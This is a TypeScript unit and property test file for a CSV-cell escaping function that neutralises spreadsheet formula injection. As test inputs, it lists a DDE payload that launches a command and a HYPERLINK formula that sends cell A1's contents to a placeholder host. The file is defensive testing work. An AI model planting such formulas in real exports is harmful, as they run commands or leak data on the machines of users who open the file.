import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { holds } from '../testing/holds.ts';
import { csvCell, csvText } from './csv-cell.ts';

const readBack = (line: string): readonly string[][] =>
  parse(line, { record_delimiter: '\n', relax_column_count: true });

test('a text stands in quotes, a number alone', () => {
  expect(csvCell('Province "A", zone 1')).toBe('"Province ""A"", zone 1"');
  expect(csvCell('ខេត្ត ក')).toBe('"ខេត្ត ក"');
  expect(csvCell('')).toBe('""');
  expect(csvCell(99)).toBe('99');
});

test('a negative number stays one; a text that looks like one does not', () => {
  expect(csvCell(-5)).toBe('-5');
  expect(csvCell(-0.25)).toBe('-0.25');
  expect(csvCell('-5')).toBe(`"'-5"`);
});

test.each([NaN, Infinity, -Infinity])('%s is no number', (value) => {
  expect(() => csvCell(value)).toThrow(RangeError);
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tx',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  '|calc',
  '%0A',
  "'=1",
  "''=1",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '=1+1";=2+2',
  '+1";"=2',
])('%j is no formula once it is written', (text) => {
  const [[cell = ''] = []] = readBack(csvCell(text));
  expect(cell).toBe(`'${text}`);
  expect(csvText(cell)).toBe(text);
});

test.each(['Kampong Cham', '1+1=2', 'a@b', '5', '(−)', "O'Neill", "'quoted'", '២០២២'])(
  '%j stays as it is',
  (text) => {
    expect(readBack(csvCell(text))).toEqual([[text]]);
  },
);

const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.constantFrom(...Array.from(`=+-@|%'" ,;\t\r\n＝＋－＠\u200b\u00a0a1ក`)))
    .map((signs) => signs.join('')),
);

test('any row of texts and numbers is read back as it was, and no text of it as a formula', () => {
  holds(
    fc.property(
      fc.array(fc.oneof(anyText, fc.double({ noNaN: true, noDefaultInfinity: true })), {
        minLength: 1,
        maxLength: 5,
      }),
      (values) => {
        const [row = []] = readBack(values.map(csvCell).join(','));
        expect(row.map(csvText)).toEqual(values.map((value) => String(value)));
        values.forEach((value, index) => {
          if (typeof value === 'string') expect(row[index]).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
        });
      },
    ),
    500,
  );
});

test('a semicolon, at which other countries part cells, parts nothing', () => {
  const line = [csvCell('a;=1+1'), csvCell('";=2+2;"')].join(';');
  expect(parse(line, { delimiter: ';' })).toEqual([['a;=1+1', '";=2+2;"']]);
});
